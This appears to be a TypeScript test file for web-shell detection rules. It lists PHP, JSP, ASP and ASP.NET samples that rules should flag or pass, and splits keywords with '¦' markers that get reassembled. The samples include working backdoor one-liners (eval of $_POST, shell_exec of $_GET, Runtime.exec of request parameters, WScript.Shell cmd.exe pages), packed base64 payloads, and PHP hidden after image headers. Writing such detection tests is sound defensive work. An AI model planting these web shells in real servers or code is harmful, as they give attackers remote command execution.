import { assembled } from "./assembled.js";
import { eachMissing, KB, MB, type RuleCases } from "./rule-case.js";

const ONE_LINER = "<?php @ev¦al($_PO¦ST['x']); ?>";
const LONG_PAGE = `<?php\n${"// an ordinary page\n".repeat(100)}`;
const PACKED = "<?php ev¦al(gzinf¦late(base64_¦decode('80jNyclXKM8vyklRBAA='))); ?>";
const GIF = "GIF89a\x01\x00\x01\x00";
const PNG = Buffer.from("89504e470d0a1a0a", "hex").toString("latin1");

const JSP_PAGE = [
  "<%",
  'String c = request.getPar¦ameter("c");',
  "Process p = Runtime.getRun¦time().exec(c);",
  "InputStream in = p.getInput¦Stream();",
  "int b; while ((b = in.read()) != -1) out.pri¦nt((char) b);",
];
const JSP_LOADER = [
  "<%! class U",
  "extends Class¦Loader { U(ClassLoader c) { super(c); }",
  "Class g(byte[] b) { return define¦Class(b, 0, b.length); } } byte[] b =",
  "Base64.getDecoder().decode(request.getRea¦der().readLine());",
];
const ASPX_PAGE = ["<%", "var p = new Process¦StartInfo(", '"cmd.¦exe", "/c " +', 'Requ¦est.Form["c"]);', "p.Start(); %>"];
const lines = (parts: string[]) => assembled(parts.join("\n"));

export const webshellCases: RuleCases = {
  Webshell_PHP_Runs_Request: {
    below: 2 * MB,
    found: {
      "a long page that evaluates": assembled(`${LONG_PAGE}ass¦ert($_REQU¦EST["a"]);`),
      "that evaluates what it decodes": assembled(`${LONG_PAGE}ev¦al(base64_decode($_CO¦OKIE["a"]));`),
      "that runs a command": assembled(`${LONG_PAGE}echo shell_¦exec($_G¦ET["cmd"]);`),
      "with backticks": assembled(`${LONG_PAGE}echo \`$_G¦ET[0]\`;`),
      "that calls what it is told": assembled(`${LONG_PAGE}$_G¦ET["f"]($_PO¦ST["a"]);`),
      "by a callback": assembled(`${LONG_PAGE}array_¦map($_G¦ET["f"], array($_PO¦ST["a"]));`),
    },
    passed: {
      "a page that shows what it was sent": Buffer.from('<?php echo htmlspecialchars($_GET["name"]); system("uptime");'),
      "a query that is executed": Buffer.from('<?php $statement->execute([$_POST["id"]]); curl_exec($handle);'),
      "a text that is no page": assembled("Never write ev¦al($_PO¦ST['x'])."),
    },
  },
  Webshell_PHP_One_Liner: {
    below: KB,
    found: { "a call and nothing else": assembled(ONE_LINER), "with the short tag": assembled("<?= sys¦tem($_G¦ET[0]) ?>") },
    passed: {
      "a long page with the call": assembled(`${LONG_PAGE}${ONE_LINER}`),
      "behind a text": assembled(`${"x".repeat(100)}${ONE_LINER}`),
      "a short page without": Buffer.from("<?php phpinfo(); ?>"),
    },
  },
  Webshell_PHP_Obfuscated: {
    below: 2 * MB,
    found: {
      "packed code": assembled(PACKED),
      characters: assembled(
        `<?php ev¦al(${[112, 104, 112, 105, 110, 102, 111].map((code) => `chr(${code}).`).join("")}'();'); ?>`,
      ),
    },
    passed: {
      "a picture in a page": Buffer.from("<?php echo base64_decode($picture); eval($template); ?>"),
      "packed code that is no page": assembled(PACKED.replace("<?php", "")),
      "packed data": Buffer.from("<?php $data = unserialize(gzinflate(base64_decode($cache))); ?>"),
    },
  },
  Webshell_PHP_In_Image: {
    found: { GIF: assembled(`${GIF}${ONE_LINER}`), "PNG with packed code": assembled(`${PNG}${PACKED}`) },
    passed: {
      "a picture": Buffer.from(GIF, "latin1"),
      "a picture that names PHP": Buffer.from(`${GIF}<?php phpinfo(); ?>`, "latin1"),
      "a page": assembled(ONE_LINER),
    },
  },
  Webshell_JSP_Runs_Request: {
    below: 256 * KB,
    found: {
      "a command": assembled('<% Runtime.getRun¦time().exec(request.getPar¦ameter("c")); %>'),
      "through a shell": assembled(
        '<% Runtime.getRun¦time().exec(new String[]{"/bin/sh", "-c", request.getPar¦ameter("c")}); %>',
      ),
      "by a builder": assembled('<% new Process¦Builder(request.getPar¦ameter("c")).start(); %>'),
    },
    passed: {
      "a fixed command": Buffer.from('<% Runtime.getRuntime().exec("uptime"); String q = request.getParameter("q"); %>'),
      "Java source": assembled('Runtime.getRun¦time().exec(request.getPar¦ameter("c"));'),
    },
  },
  Webshell_JSP_Command_Page: {
    below: 256 * KB,
    found: { "a page with a prompt": lines(JSP_PAGE) },
    passed: eachMissing(JSP_PAGE, lines),
  },
  Webshell_JSP_Loads_Class: {
    below: 256 * KB,
    found: { "a class from the request": lines(JSP_LOADER) },
    passed: eachMissing(JSP_LOADER.slice(1), (parts) => lines(["<%", ...parts])),
  },
  Webshell_ASP_Evaluates_Request: {
    below: 256 * KB,
    found: {
      ASP: assembled('<%ev¦al requ¦est("x")%>'),
      "ASP.NET": assembled('<%@ Page Language="Jscript"%><%ev¦al(Requ¦est.Item["x"],"unsafe");%>'),
    },
    passed: {
      "far behind the beginning": assembled(`${"x".repeat(5000)}<%ev¦al requ¦est("x")%>`),
      "a procedure that takes the request": Buffer.from('<% execute_query Request("id") %>'),
      binding: Buffer.from('<%# Eval("Name") %> <%= Request("id") %>'),
    },
  },
  Webshell_ASP_Command_Page: {
    below: 256 * KB,
    found: {
      "ASP.NET": lines(ASPX_PAGE),
      ASP: assembled(
        '<% Set s = CreateObj¦ect("WScr¦ipt.Shell"): Response.Write s.Exec("cmd.exe /c " & Requ¦est("c")).StdOut.ReadAll %>',
      ),
    },
    passed: {
      "a fixed program": assembled('<%@ Page %><% Process.St¦art("report.exe"); var id = Requ¦est.Form["id"]; %>'),
      ...eachMissing(ASPX_PAGE.slice(0, 4), lines),
      "far behind the beginning": lines([`${"x".repeat(5000)}`, ...ASPX_PAGE]),
    },
  },
};
